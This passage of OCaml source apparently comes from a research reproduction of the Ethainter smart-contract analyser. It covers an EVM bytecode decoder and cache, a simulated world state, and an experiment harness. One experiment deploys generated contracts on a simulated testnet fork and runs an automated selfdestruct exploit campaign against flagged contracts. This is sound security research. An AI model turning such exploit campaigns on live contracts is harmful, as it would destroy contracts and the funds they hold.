let block_instrs (p : t) (b : block) : Bytecode.instr list =
  Array.to_list (Array.sub p.instrs b.bb_start b.bb_len)

(* ---------------- telemetry ---------------- *)

type stats = { decodes : int; hits : int; evictions : int; entries : int }

let stats () =
  Mutex.lock cache_mu;
  let entries = Hashtbl.length cache in
  Mutex.unlock cache_mu;
  { decodes = Atomic.get decodes; hits = Atomic.get hits;
    evictions = Atomic.get evictions; entries }

let telemetry_pairs () =
  let s = stats () in
  [ ("decodes", float_of_int s.decodes); ("hits", float_of_int s.hits);
    ("evictions", float_of_int s.evictions);
    ("entries", float_of_int s.entries) ]
