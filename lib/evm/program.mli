(** Pre-decoded, basic-block-structured EVM programs.

    Raw bytecode is decoded {e once} into an immutable program: a flat
    instruction array (no per-step byte decoding, no PUSH-immediate
    re-reads), basic blocks split at [JUMPDEST]s and after block
    terminators with per-block static gas cost and stack-height
    metadata precomputed, and the valid-[JUMPDEST] set. The same
    structure is the shared substrate for the interpreter's hot loop
    ({!Interp}) and the decompiler's block splitter
    ([Ethainter_tac.Decomp.split_blocks]) — which previously re-derived
    it independently per use.

    Decoded programs are cached process-wide, keyed by
    [keccak256(code)] (the same content-addressing discipline as the
    analysis caches in [lib/core]), so repeated message calls into the
    same contract — an Ethainter-Kill escalation campaign, a
    million-transaction chain replay — decode zero times after the
    first. The cache is mutex-protected and size-bounded (FIFO
    eviction; cap via [ETHAINTER_PROGRAM_CACHE_CAP], default 4096
    entries).

    {b Invariants} (relied on by the interpreter):
    - [instrs] lists instructions in code order; the immediate of a
      truncated PUSH at end-of-code is zero-filled (yellow-paper
      behaviour), and unknown bytes decode as [INVALID];
    - [blocks] partitions [instrs] contiguously and in order: block
      [k+1] starts at the instruction following block [k]'s last.
      Boundaries are exactly: instruction 0, every [JUMPDEST], and the
      instruction after every {!Opcode.is_block_terminator};
    - control flow only ever {e enters} a block at its first
      instruction (the entry block starts at pc 0, jumps land on
      [JUMPDEST]s, and fallthrough lands on the next block's start);
    - [bb_gas] is the sum of {!Opcode.base_gas} over the block, and
      [gas_rest.(i)] the sum over instructions {e strictly after} [i]
      within [i]'s block — so a block can be gas-charged once at entry
      and the pre-charge unwound exactly at any mid-block exit;
    - [bb_need] / [bb_grow] bound the operand-stack depth the block
      consumes below / grows above its entry height, per
      {!Opcode.stack_arity};
    - a byte position is a valid jump target iff {!is_jumpdest} — a
      [JUMPDEST] byte {e not} inside a PUSH immediate. *)

type block = {
  bb_start : int;  (** index of the block's first instruction *)
  bb_len : int;    (** number of instructions *)
  bb_gas : int;    (** static gas: sum of {!Opcode.base_gas} *)
  bb_need : int;   (** max stack depth consumed below entry height *)
  bb_grow : int;   (** max stack growth above entry height *)
  bb_delta : int;  (** net stack-height change *)
}

type t = {
  code : string;          (** the raw bytecode (for CODECOPY/CODESIZE) *)
  code_hash : string;     (** keccak256(code), the cache key *)
  instrs : Bytecode.instr array;  (** flat decoded instruction stream *)
  ops : Bytes.t;
      (** per instruction: the canonical opcode byte
          ({!Opcode.to_byte}), so the interpreter's threaded dispatch
          indexes its 256-entry handler table with one byte load
          instead of a variant match; length [Array.length instrs] *)
  gas_rest : int array;
      (** per instruction: static gas of the instructions after it in
          its block (tail refund / GAS-opcode correction table) *)
  blocks : block array;   (** contiguous, in code order *)
  block_at_pc : int array;
      (** byte pc → index of the block starting there, or -1; length
          [String.length code] *)
  jumpdest : Bytes.t;
      (** byte pc → ['\001'] iff a valid jump target; length
          [String.length code] *)
}

val decode : string -> t
(** Decode unconditionally (no cache). The differential suite uses
    this to exercise the decoder itself; everything else should go
    through {!of_code}. *)

val of_code : string -> t
(** [of_code code] returns the cached program for [code], decoding at
    most once per unique [keccak256(code)] process-wide. Thread-safe;
    the decode itself runs outside the cache lock. *)

val empty : t
(** The program of the empty code string (what a destroyed or
    code-less account executes). *)

val is_jumpdest : t -> int -> bool
(** Valid jump target: in-bounds [JUMPDEST] byte outside any PUSH
    immediate. *)

val instr_count : t -> int
val block_count : t -> int

val block_instrs : t -> block -> Bytecode.instr list
(** The block's instructions as a list, in code order (the shape the
    decompiler's abstract interpreter consumes). *)

(** {1 Telemetry}

    Monotonic process-wide counters (PR 7 style: diff two readings for
    a window). [decodes] counts actual decode runs — the decode-once
    property of a replay is [decodes diff = number of unique code
    hashes]; [hits] counts cache lookups served without decoding;
    [evictions] counts cap-bound FIFO drops. *)

type stats = {
  decodes : int;
  hits : int;
  evictions : int;
  entries : int;  (** current cache population (gauge) *)
}

val stats : unit -> stats

val telemetry_pairs : unit -> (string * float) list
(** {!stats} in the flat key/value shape a {!Ethainter_core.Telemetry}
    source returns. *)
