(** World state for the EVM: accounts with balance, nonce, code and
    storage. This plays the role of the Ethereum state trie in the
    paper's evaluation networks (mainnet snapshot, Ropsten fork).

    The state supports cheap snapshot/rollback, which the interpreter
    uses to implement revert semantics for failed calls, and which the
    testnet simulator uses to fork the chain (the paper's "private fork
    of the Ropsten testnet"). *)

module U = Ethainter_word.Uint256

(* Word-keyed hash tables over [U.equal]/[U.hash] — the multi-limb
   mixing hash, not polymorphic hashing — so storage-slot and address
   lookups stay O(1) even over adversarial key families (sequential
   slots, keys differing only in high limbs). *)
module WT = Hashtbl.Make (struct
  type t = U.t

  let equal = U.equal
  let hash = U.hash
end)

type address = U.t

type account = {
  mutable balance : U.t;
  mutable nonce : int;
  mutable code : string;
  storage : U.t WT.t;
  mutable destroyed : bool;
  mutable prog : Program.t option;
      (* memoized decoded program for [code]; cleared on set_code so a
         call into this account skips even the keccak lookup into the
         process-wide program cache *)
}

type t = { accounts : account WT.t }

let create () = { accounts = WT.create 64 }

let fresh_account () =
  { balance = U.zero; nonce = 0; code = ""; storage = WT.create 8;
    destroyed = false; prog = None }

let account t addr =
  match WT.find_opt t.accounts addr with
  | Some a -> a
  | None ->
      let a = fresh_account () in
      WT.replace t.accounts addr a;
      a

let account_opt t addr = WT.find_opt t.accounts addr
let exists t addr = WT.mem t.accounts addr

let balance t addr =
  match account_opt t addr with Some a -> a.balance | None -> U.zero

let code t addr =
  match account_opt t addr with
  | Some a when not a.destroyed -> a.code
  | _ -> ""

let nonce t addr =
  match account_opt t addr with Some a -> a.nonce | None -> 0

let set_balance t addr v = (account t addr).balance <- v

let set_code t addr c =
  let a = account t addr in
  a.code <- c;
  a.prog <- None

(** The decoded program for [addr]'s current code (the empty program
    for destroyed or code-less accounts, mirroring {!code}). Decoding
    is memoized twice over: on the account record (no hashing on a
    repeat call) and process-wide by code hash in {!Program.of_code}
    (so forks and snapshot-restored states never re-decode either). *)
let program t addr : Program.t =
  match WT.find_opt t.accounts addr with
  | Some a when not a.destroyed ->
      if String.length a.code = 0 then Program.empty
      else (
        match a.prog with
        | Some p -> p
        | None ->
            let p = Program.of_code a.code in
            a.prog <- Some p;
            p)
  | _ -> Program.empty
let bump_nonce t addr = (account t addr).nonce <- (account t addr).nonce + 1

let sload t addr key =
  match account_opt t addr with
  | None -> U.zero
  | Some a -> (
      match WT.find_opt a.storage key with
      | Some v -> v
      | None -> U.zero)

let sstore t addr key v =
  let a = account t addr in
  if U.is_zero v then WT.remove a.storage key
  else WT.replace a.storage key v

let is_destroyed t addr =
  match account_opt t addr with Some a -> a.destroyed | None -> false

(** Every live contract account: non-destroyed, non-empty code. The
    batch-sweep side of the streaming-index differential — "analyze
    the final state" is exactly a fold over this. Order unspecified. *)
let fold_contracts (t : t) (f : address -> string -> 'a -> 'a) (init : 'a) : 'a
    =
  WT.fold
    (fun addr a acc ->
      if (not a.destroyed) && String.length a.code > 0 then f addr a.code acc
      else acc)
    t.accounts init

let transfer t ~src ~dst ~value =
  let sa = account t src in
  if U.lt sa.balance value then Error "insufficient balance"
  else begin
    sa.balance <- U.sub sa.balance value;
    let da = account t dst in
    da.balance <- U.add da.balance value;
    Ok ()
  end

let selfdestruct t ~victim ~beneficiary =
  let va = account t victim in
  let ba = account t beneficiary in
  if not (U.equal victim beneficiary) then
    ba.balance <- U.add ba.balance va.balance;
  va.balance <- U.zero;
  va.destroyed <- true

(* ---------------- snapshots ---------------- *)

(* The decoded-program memo rides along in the snapshot: the code it
   was decoded from is captured (immutably) in the same entry, so a
   restored account's memo is always consistent — and the frequent
   revert path (every failed sub-call restores) costs zero re-decodes
   and zero re-hashes. *)
type snapshot =
  (address * (U.t * int * string * (U.t * U.t) list * bool) * Program.t option)
  list

let snapshot (t : t) : snapshot =
  WT.fold
    (fun addr a acc ->
      let slots = WT.fold (fun k v l -> (k, v) :: l) a.storage [] in
      (addr, (a.balance, a.nonce, a.code, slots, a.destroyed), a.prog) :: acc)
    t.accounts []

let restore (t : t) (s : snapshot) : unit =
  WT.reset t.accounts;
  List.iter
    (fun (addr, (balance, nonce, code, slots, destroyed), prog) ->
      let storage = WT.create (max 8 (List.length slots)) in
      List.iter (fun (k, v) -> WT.replace storage k v) slots;
      WT.replace t.accounts addr
        { balance; nonce; code; storage; destroyed; prog })
    s

let copy (t : t) : t =
  let t' = create () in
  restore t' (snapshot t);
  t'

(** Derive a contract address from creator + nonce. Real Ethereum uses
    RLP(creator, nonce); we use keccak(creator ++ nonce) which has the
    same collision-resistance and determinism properties. *)
let contract_address ~(creator : address) ~(nonce : int) : address =
  let payload = U.to_bytes creator ^ U.to_bytes (U.of_int nonce) in
  let h = Ethainter_crypto.Keccak.hash payload in
  (* addresses are 160-bit: mask the top 12 bytes *)
  U.logand (U.of_bytes h)
    (U.sub (U.shift_left U.one 160) U.one)
