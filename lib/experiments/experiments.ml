(** Reproduction harness for every table and figure in §6.

    Each experiment returns structured results and prints a table with
    the same rows/series as the paper. Absolute numbers differ (our
    universe is a generated corpus on a simulator, not the 2019
    mainnet), but the shapes the paper argues from are reproduced: who
    wins, by what rough factor, and where each tool fails.

    Index (see DESIGN.md):
    - {!e1_kill} — §6.1 Experiment 1 (Ethainter-Kill on a Ropsten fork)
    - {!t1_flagged} — §6.2 flagged-percentage table (+ ETH held)
    - {!f6_precision} — Fig. 6 manual-inspection precision
    - {!s1_securify} — §6.2 Securify comparison
    - {!f7_securify2} — Fig. 7 Securify2 comparison
    - {!te_teether} — §6.2 teEther comparison
    - {!rq2_efficiency} — §6.3 analysis efficiency
    - {!f8_ablations} — Fig. 8 design-decision ablations *)

module U = Ethainter_word.Uint256
module P = Ethainter_core.Pipeline
module S = Ethainter_core.Scheduler
module V = Ethainter_core.Vulns
module C = Ethainter_core.Config
module G = Ethainter_corpus.Generator
module Pat = Ethainter_corpus.Patterns
module T = Ethainter_chain.Testnet

let pct a b = if b = 0 then 0.0 else 100.0 *. float_of_int a /. float_of_int b

let hline = String.make 72 '-'

(* ------------------------------------------------------------------ *)
(* Shared: analyze a corpus once                                       *)
(* ------------------------------------------------------------------ *)

type analyzed = {
  inst : G.instance;
  result : P.result;
}

(* Every corpus sweep goes through the scheduler's worker pool as a
   batch of Pipeline.requests; result order (and content) is identical
   to the old sequential List.map. Because requests are the single
   keyable entry point, overlapping sweeps (t1/f6/f8 share generated
   contracts) hit the process-wide result cache. *)
let analyze_corpus ?(cfg = C.default) (corpus : G.instance list) : analyzed list =
  S.analyze_requests
    (List.map
       (fun (i : G.instance) -> P.request ~cfg (P.Runtime i.G.i_runtime))
       corpus)
  |> List.map2 (fun i result -> { inst = i; result }) corpus

let flags_kind (a : analyzed) k = P.flags a.result k

(* ------------------------------------------------------------------ *)
(* E1 — §6.1: automated end-to-end exploits on a Ropsten fork          *)
(* ------------------------------------------------------------------ *)

type e1_result = {
  e1_contracts : int;
  e1_flagged : int;
  e1_pinpointed : int;
  e1_destroyed : int;
  e1_destroyed_pct_of_flagged : float;
  e1_txs : int;
}

let e1_kill ?(size = 160) ?(seed = 1337) () : e1_result =
  let corpus = G.ropsten ~seed ~size () in
  (* a private fork of the testnet: deploy everything, then attack *)
  let net = T.create ~name:"ropsten-fork" () in
  let deployer = T.account_of_seed "deployer" in
  let attacker = T.account_of_seed "attacker" in
  T.fund_account net deployer (U.of_string "0xffffffffffffffffffffffff");
  T.fund_account net attacker (U.of_string "0xffffffffffffffffffffffff");
  let deployed =
    List.filter_map
      (fun (i : G.instance) ->
        let r = T.deploy net ~from:deployer i.G.i_deploy in
        match r.T.created with
        | Some addr ->
            T.fund_account net addr i.G.i_eth_held;
            Some (i, addr)
        | None -> None)
      corpus
  in
  let analyzed =
    S.analyze_corpus (List.map (fun ((i : G.instance), _) -> i.G.i_runtime) deployed)
    |> List.map2 (fun (i, addr) r -> (i, addr, r)) deployed
  in
  let flagged =
    List.filter
      (fun (_, _, r) ->
        P.flags r V.AccessibleSelfdestruct || P.flags r V.TaintedSelfdestruct)
      analyzed
  in
  let targets =
    List.map (fun (_, addr, r) -> (addr, r.P.reports)) flagged
  in
  let stats, _attempts =
    Ethainter_kill.Kill.campaign net ~attacker targets
  in
  { e1_contracts = List.length deployed;
    e1_flagged = List.length flagged;
    e1_pinpointed = stats.Ethainter_kill.Kill.pinpointed;
    e1_destroyed = stats.Ethainter_kill.Kill.destroyed;
    e1_destroyed_pct_of_flagged =
      pct stats.Ethainter_kill.Kill.destroyed (List.length flagged);
    e1_txs = stats.Ethainter_kill.Kill.total_txs }

let print_e1 (r : e1_result) =
  Printf.printf "%s\nE1 (§6.1): Ethainter-Kill on a private Ropsten fork\n%s\n" hline hline;
  Printf.printf "contracts deployed              %d\n" r.e1_contracts;
  Printf.printf "flagged (accessible/tainted sd) %d\n" r.e1_flagged;
  Printf.printf "vulnerability pinpointed        %d (rest: no public entry point)\n"
    r.e1_pinpointed;
  Printf.printf "destroyed (trace-verified)      %d (%.1f%% of flagged)\n"
    r.e1_destroyed r.e1_destroyed_pct_of_flagged;
  Printf.printf "transactions sent               %d\n" r.e1_txs;
  Printf.printf
    "paper shape: 805/4800 destroyed (16.7%% of flagged); a minority of\n\
     flags convert to fully-automated kills, but well above zero.\n"

(* ------------------------------------------------------------------ *)
(* T1 — §6.2: percentage of flagged contracts per vulnerability        *)
(* ------------------------------------------------------------------ *)

type t1_row = {
  t1_kind : V.kind;
  t1_count : int;
  t1_pct : float;
  t1_eth : U.t;
}

let t1_flagged ?(size = 600) ?(seed = 42) () : t1_row list * int =
  let corpus = G.mainnet ~seed ~size () in
  let analyzed = analyze_corpus corpus in
  let rows =
    List.map
      (fun k ->
        let hits = List.filter (fun a -> flags_kind a k) analyzed in
        let eth =
          List.fold_left (fun s a -> U.add s a.inst.G.i_eth_held) U.zero hits
        in
        { t1_kind = k; t1_count = List.length hits;
          t1_pct = pct (List.length hits) (List.length analyzed);
          t1_eth = eth })
      V.all_kinds
  in
  (rows, List.length analyzed)

let print_t1 (rows : t1_row list) (total : int) =
  Printf.printf "%s\nT1 (§6.2): flagged unique contracts, per vulnerability (n=%d)\n%s\n"
    hline total hline;
  Printf.printf "%-30s %10s %10s %16s\n" "Vulnerability" "Flagged" "Percent"
    "ETH held (wei)";
  List.iter
    (fun r ->
      Printf.printf "%-30s %10d %9.2f%% %16s\n" (V.kind_name r.t1_kind)
        r.t1_count r.t1_pct (U.to_decimal r.t1_eth))
    rows;
  Printf.printf
    "paper shape: accessible selfdestruct 1.2%%, tainted selfdestruct 0.17%%,\n\
     tainted owner 1.33%%, unchecked staticcall 0.04%%, tainted delegatecall 0.17%%.\n"

(* ------------------------------------------------------------------ *)
(* F6 — Fig. 6: manual inspection of a 40-contract random sample       *)
(* ------------------------------------------------------------------ *)

type f6_row = {
  f6_kind : V.kind;
  f6_tp : int;
  f6_total : int;
}

type f6_result = {
  f6_rows : f6_row list;
  f6_sample : int;
  f6_precision : float;
  f6_composite_tps : int;
}

(* Sample flagged contracts with verified source until every flagged
   category is represented — the paper's sampling procedure. *)
let f6_precision ?(size = 3600) ?(seed = 42) ?(sample = 40) () : f6_result =
  let corpus = G.mainnet ~seed ~size () in
  let analyzed = analyze_corpus corpus in
  let flagged =
    List.filter
      (fun a -> a.result.P.reports <> [] && a.inst.G.i_has_source)
      analyzed
  in
  (* lexicographic sort on the (hash-derived) name, as the paper sorts
     on addresses, then take a prefix as the "random" sample *)
  let sorted =
    List.sort
      (fun a b ->
        compare
          (Ethainter_crypto.Keccak.hash a.inst.G.i_name)
          (Ethainter_crypto.Keccak.hash b.inst.G.i_name))
      flagged
  in
  let rec take n = function
    | [] -> []
    | _ when n = 0 -> []
    | x :: r -> x :: take (n - 1) r
  in
  let sampled = take sample sorted in
  let rows =
    List.filter_map
      (fun k ->
        let hits = List.filter (fun a -> flags_kind a k) sampled in
        if hits = [] then None
        else
          let tp =
            List.length
              (List.filter (fun a -> G.truly_vulnerable a.inst k) hits)
          in
          Some { f6_kind = k; f6_tp = tp; f6_total = List.length hits })
      V.all_kinds
  in
  (* overall precision: a sampled contract counts as a true positive if
     every... the paper counts per-(contract,kind) warnings *)
  let warnings =
    List.concat_map
      (fun a ->
        List.filter_map
          (fun k ->
            if flags_kind a k then Some (G.truly_vulnerable a.inst k)
            else None)
          V.all_kinds)
      sampled
  in
  let tps = List.length (List.filter (fun x -> x) warnings) in
  let composite_tps =
    List.length
      (List.filter
         (fun a ->
           a.inst.G.i_template.Pat.t_truth.Pat.composite
           && List.exists (fun k -> flags_kind a k && G.truly_vulnerable a.inst k)
                V.all_kinds)
         sampled)
  in
  { f6_rows = rows; f6_sample = List.length sampled;
    f6_precision = pct tps (List.length warnings);
    f6_composite_tps = composite_tps }

let print_f6 (r : f6_result) =
  Printf.printf "%s\nF6 (Fig. 6): manual inspection of %d sampled flagged contracts\n%s\n"
    hline r.f6_sample hline;
  List.iter
    (fun row ->
      Printf.printf "%-30s true positives: %d/%d\n" (V.kind_name row.f6_kind)
        row.f6_tp row.f6_total)
    r.f6_rows;
  Printf.printf "contracts exploitable only via composite tainting: %d\n"
    r.f6_composite_tps;
  Printf.printf "Total precision: %.1f%%   (paper: 82.5%%)\n" r.f6_precision

(* ------------------------------------------------------------------ *)
(* S1 — §6.2: Securify comparison                                      *)
(* ------------------------------------------------------------------ *)

type s1_result = {
  s1_universe : int;
  s1_flagged : int;
  s1_flag_rate : float;
  s1_uw_rate : float;   (** unrestricted-write flag rate *)
  s1_miv_rate : float;  (** missing-input-validation flag rate *)
  s1_sample : int;
  s1_tp : int;
  s1_avg_findings : float;
}

let s1_securify ?(size = 300) ?(seed = 42) ?(sample = 40) () : s1_result =
  let corpus = G.mainnet ~seed ~size () in
  let results =
    S.map
      (fun (i : G.instance) ->
        (i, Ethainter_baselines.Securify.analyze i.G.i_runtime))
      corpus
  in
  let flagged = List.filter (fun (_, r) -> r.Ethainter_baselines.Securify.flagged) results in
  let rec take n = function
    | [] -> []
    | _ when n = 0 -> []
    | x :: r -> x :: take (n - 1) r
  in
  let sampled = take sample flagged in
  (* A Securify violation is a true positive only if the contract has a
     real end-to-end vulnerability of a comparable kind (the paper's
     criterion: apparent end-to-end exploitability). *)
  let tp =
    List.length
      (List.filter
         (fun ((i : G.instance), _) ->
           i.G.i_template.Pat.t_truth.Pat.vulnerable <> [])
         sampled)
  in
  let total_findings =
    List.fold_left
      (fun n (_, r) ->
        n + List.length r.Ethainter_baselines.Securify.findings)
      0 flagged
  in
  let rate pat =
    pct
      (List.length
         (List.filter
            (fun (_, r) ->
              Ethainter_baselines.Securify.count_pattern r pat > 0)
            results))
      (List.length results)
  in
  { s1_universe = List.length results;
    s1_flagged = List.length flagged;
    s1_flag_rate = pct (List.length flagged) (List.length results);
    s1_uw_rate = rate "unrestricted-write";
    s1_miv_rate = rate "missing-input-validation";
    s1_sample = List.length sampled;
    s1_tp = tp;
    s1_avg_findings =
      (if flagged = [] then 0.0
       else float_of_int total_findings /. float_of_int (List.length flagged)) }

let print_s1 (r : s1_result) =
  Printf.printf "%s\nS1 (§6.2): Securify violation patterns\n%s\n" hline hline;
  Printf.printf "universe                        %d contracts\n" r.s1_universe;
  Printf.printf "flagged (any violation)         %d (%.1f%%)\n" r.s1_flagged
    r.s1_flag_rate;
  Printf.printf "  unrestricted write            %.1f%%\n" r.s1_uw_rate;
  Printf.printf "  missing input validation      %.1f%%\n" r.s1_miv_rate;
  Printf.printf "avg violations per flagged      %.1f\n" r.s1_avg_findings;
  Printf.printf "manually inspected sample       %d\n" r.s1_sample;
  Printf.printf "true positives in sample        %d (%.1f%%)\n" r.s1_tp
    (pct r.s1_tp r.s1_sample);
  Printf.printf
    "paper shape: 39.2%% flagged for these violations (75%% for any),\n\
     10+ violations per flagged contract, 0/40 true positives.\n"

(* ------------------------------------------------------------------ *)
(* F7 — Fig. 7: Securify2 comparison                                   *)
(* ------------------------------------------------------------------ *)

type f7_row = {
  f7_vuln : string;
  f7_s2_reports : int;
  f7_s2_tp : int;
  f7_eth_reports : int;
  f7_eth_tp : int;
}

type f7_result = {
  f7_universe : int;
  f7_s2_timeouts : int;
  f7_s2_not_applicable : int;
  f7_eth_timeouts : int;
  f7_rows : f7_row list;
}

let f7_securify2 ?(size = 400) ?(seed = 42) () : f7_result =
  let corpus = G.mainnet ~seed ~size () in
  (* universe: contracts with compatible verified source (the paper
     restricts to Solidity 0.5.8+ sources that produce analysis
     facts) *)
  let universe =
    List.filter (fun (i : G.instance) -> i.G.i_has_source) corpus
  in
  let s2 =
    S.map
      (fun i -> (i, Ethainter_baselines.Securify2.analyze (G.source_info i)))
      universe
  in
  let timeouts =
    List.length
      (List.filter
         (fun (_, o) -> o = Ethainter_baselines.Securify2.Timeout)
         s2)
  in
  let not_applicable =
    List.length
      (List.filter
         (fun (_, o) ->
           match o with
           | Ethainter_baselines.Securify2.NotApplicable _ -> true
           | _ -> false)
         s2)
  in
  let eth =
    S.analyze_corpus (List.map (fun (i : G.instance) -> i.G.i_runtime) universe)
    |> List.combine universe
  in
  let eth_timeouts =
    List.length (List.filter (fun (_, r) -> r.P.timed_out) eth)
  in
  let s2_flags i pat =
    match List.assoc_opt i (List.map (fun (i, o) -> (i, o)) s2) with
    | Some o -> Ethainter_baselines.Securify2.flags_pattern o pat
    | None -> false
  in
  let eth_flags i k =
    match List.assoc_opt i (List.map (fun (i, r) -> (i, r)) eth) with
    | Some r -> P.flags r k
    | None -> false
  in
  let row name pat kinds truth_kinds =
    let s2_hits = List.filter (fun (i, _) -> s2_flags i pat) s2 in
    let s2_tp =
      List.length
        (List.filter
           (fun ((i : G.instance), _) ->
             List.exists (fun k -> G.truly_vulnerable i k) truth_kinds)
           s2_hits)
    in
    let eth_hits =
      List.filter
        (fun ((i : G.instance), _) -> List.exists (fun k -> eth_flags i k) kinds)
        eth
    in
    let eth_tp =
      List.length
        (List.filter
           (fun ((i : G.instance), _) ->
             List.exists (fun k -> G.truly_vulnerable i k) truth_kinds)
           eth_hits)
    in
    { f7_vuln = name; f7_s2_reports = List.length s2_hits; f7_s2_tp = s2_tp;
      f7_eth_reports = List.length eth_hits; f7_eth_tp = eth_tp }
  in
  { f7_universe = List.length universe;
    f7_s2_timeouts = timeouts;
    f7_s2_not_applicable = not_applicable;
    f7_eth_timeouts = eth_timeouts;
    f7_rows =
      [ row "accessible selfdestruct" "UnrestrictedSelfdestruct"
          [ V.AccessibleSelfdestruct ] [ V.AccessibleSelfdestruct ];
        row "tainted owner var. / unr. write" "UnrestrictedWrite"
          [ V.TaintedOwnerVariable ] [ V.TaintedOwnerVariable ];
        row "tainted delegatecall" "UnrestrictedDelegateCall"
          [ V.TaintedDelegatecall ] [ V.TaintedDelegatecall ] ] }

let print_f7 (r : f7_result) =
  Printf.printf "%s\nF7 (Fig. 7): Securify2 vs Ethainter over %d source-available contracts\n%s\n"
    hline r.f7_universe hline;
  Printf.printf "%-34s %14s %14s\n" "" "Securify2" "Ethainter";
  Printf.printf "%-34s %14d %14d\n" "Timeout/failed-facts"
    (r.f7_s2_timeouts + r.f7_s2_not_applicable)
    r.f7_eth_timeouts;
  List.iter
    (fun row ->
      Printf.printf "%-34s %8d (TP %d) %8d (TP %d)\n" row.f7_vuln
        row.f7_s2_reports row.f7_s2_tp row.f7_eth_reports row.f7_eth_tp)
    r.f7_rows;
  Printf.printf
    "paper shape: Securify2 finds few selfdestructs (precise) but misses\n\
     delegatecall (inline assembly) and floods unrestricted-write (0 TP);\n\
     Ethainter reports more, with high precision, fewer timeouts.\n"

(* ------------------------------------------------------------------ *)
(* TE — §6.2: teEther comparison                                       *)
(* ------------------------------------------------------------------ *)

type te_result = {
  te_universe : int;
  te_teether_flags : int;
  te_overlap : int; (* teEther-flagged also flagged by Ethainter *)
  te_eth_flags : int;
  te_eth_only_sample : int; (* Ethainter-flagged checked against teEther *)
  te_teether_found_of_sample : int;
  te_teether_timeout_of_sample : int;
}

let te_teether ?(size = 300) ?(seed = 42) () : te_result =
  let corpus = G.mainnet ~seed ~size () in
  let eth =
    S.analyze_corpus (List.map (fun (i : G.instance) -> i.G.i_runtime) corpus)
    |> List.combine corpus
  in
  let te =
    S.map
      (fun (i : G.instance) ->
        (i, Ethainter_baselines.Teether.analyze i.G.i_runtime))
      corpus
  in
  let te_flagged =
    List.filter (fun (_, o) -> Ethainter_baselines.Teether.flagged o) te
  in
  let eth_flags_sd (i : G.instance) =
    match List.assoc_opt i (List.map (fun (i, r) -> (i, r)) eth) with
    | Some r -> P.flags r V.AccessibleSelfdestruct
    | None -> false
  in
  let overlap =
    List.length (List.filter (fun (i, _) -> eth_flags_sd i) te_flagged)
  in
  let eth_flagged =
    List.filter
      (fun ((_ : G.instance), r) -> P.flags r V.AccessibleSelfdestruct)
      eth
  in
  (* 20 hand-checked Ethainter flags, run through teEther *)
  let rec take n = function
    | [] -> []
    | _ when n = 0 -> []
    | x :: r -> x :: take (n - 1) r
  in
  let sample = take 20 eth_flagged in
  let te_on_sample =
    List.map
      (fun ((i : G.instance), _) ->
        List.assoc i (List.map (fun (i, o) -> (i, o)) te))
      sample
  in
  { te_universe = List.length corpus;
    te_teether_flags = List.length te_flagged;
    te_overlap = overlap;
    te_eth_flags = List.length eth_flagged;
    te_eth_only_sample = List.length sample;
    te_teether_found_of_sample =
      List.length
        (List.filter Ethainter_baselines.Teether.flagged te_on_sample);
    te_teether_timeout_of_sample =
      List.length
        (List.filter
           (fun o -> o = Ethainter_baselines.Teether.ResourceExhausted)
           te_on_sample) }

let print_te (r : te_result) =
  Printf.printf "%s\nTE (§6.2): teEther (symbolic execution) vs Ethainter\n%s\n" hline hline;
  Printf.printf "universe                               %d\n" r.te_universe;
  Printf.printf "teEther exploit-synthesized flags      %d\n" r.te_teether_flags;
  Printf.printf "  of which also flagged by Ethainter   %d (%.0f%%)\n"
    r.te_overlap (pct r.te_overlap r.te_teether_flags);
  Printf.printf "Ethainter accessible-selfdestruct flags %d (%.1fx teEther)\n"
    r.te_eth_flags
    (if r.te_teether_flags = 0 then 0.0
     else float_of_int r.te_eth_flags /. float_of_int r.te_teether_flags);
  Printf.printf "Ethainter-flagged sample run through teEther: %d\n"
    r.te_eth_only_sample;
  Printf.printf "  teEther finds                        %d\n"
    r.te_teether_found_of_sample;
  Printf.printf "  teEther resource-exhausted           %d\n"
    r.te_teether_timeout_of_sample;
  Printf.printf
    "paper shape: Ethainter covers 77%% of teEther's flags and reports 6x\n\
     more overall; teEther misses composite (multi-transaction) cases.\n"

(* ------------------------------------------------------------------ *)
(* RQ2 — §6.3: efficiency                                              *)
(* ------------------------------------------------------------------ *)

type rq2_result = {
  rq2_contracts : int;
  rq2_tac_loc : int;
  rq2_total_s : float;
  rq2_avg_s : float;
  rq2_contracts_per_s : float;
}

let rq2_efficiency ?(size = 400) ?(seed = 7) () : rq2_result =
  let corpus = G.mainnet ~seed ~size () in
  let t0 = Unix.gettimeofday () in
  let results =
    S.analyze_corpus (List.map (fun (i : G.instance) -> i.G.i_runtime) corpus)
  in
  let dt = Unix.gettimeofday () -. t0 in
  let loc = List.fold_left (fun n r -> n + r.P.tac_loc) 0 results in
  { rq2_contracts = List.length corpus;
    rq2_tac_loc = loc;
    rq2_total_s = dt;
    rq2_avg_s = dt /. float_of_int (max 1 (List.length corpus));
    rq2_contracts_per_s = float_of_int (List.length corpus) /. dt }

let print_rq2 (r : rq2_result) =
  Printf.printf "%s\nRQ2 (§6.3): analysis efficiency\n%s\n" hline hline;
  Printf.printf "contracts analyzed        %d\n" r.rq2_contracts;
  Printf.printf "3-address code statements %d\n" r.rq2_tac_loc;
  Printf.printf "total wall-clock          %.2f s\n" r.rq2_total_s;
  Printf.printf "avg per contract          %.4f s\n" r.rq2_avg_s;
  Printf.printf "throughput                %.1f contracts/s\n" r.rq2_contracts_per_s;
  Printf.printf
    "paper shape: whole chain (240K contracts, 38 MLoC 3-address code) in\n\
     6 h at concurrency 45; average under 5 s per contract.\n"

(* ------------------------------------------------------------------ *)
(* F8 — Fig. 8: ablations                                              *)
(* ------------------------------------------------------------------ *)

type f8_row = {
  f8_kind : V.kind;
  f8_default : int;
  f8_ablated : int;
  f8_ratio : float;
}

let f8_ablation ~(cfg : C.t) ?(size = 600) ?(seed = 42) () : f8_row list =
  let corpus = G.mainnet ~seed ~size () in
  let base = analyze_corpus corpus in
  let abl = analyze_corpus ~cfg corpus in
  List.map
    (fun k ->
      let cb = List.length (List.filter (fun a -> flags_kind a k) base) in
      let ca = List.length (List.filter (fun a -> flags_kind a k) abl) in
      { f8_kind = k; f8_default = cb; f8_ablated = ca;
        f8_ratio =
          (if cb = 0 then if ca = 0 then 1.0 else float_of_int ca
           else float_of_int ca /. float_of_int cb) })
    [ V.TaintedSelfdestruct; V.TaintedOwnerVariable;
      V.UncheckedTaintedStaticcall; V.TaintedDelegatecall ]

let print_f8 title expectation rows =
  Printf.printf "%s\nF8 %s\n%s\n" hline title hline;
  Printf.printf "%-30s %9s %9s %8s\n" "Vulnerability" "default" "ablated" "ratio";
  List.iter
    (fun r ->
      Printf.printf "%-30s %9d %9d %8.2f\n" (V.kind_name r.f8_kind)
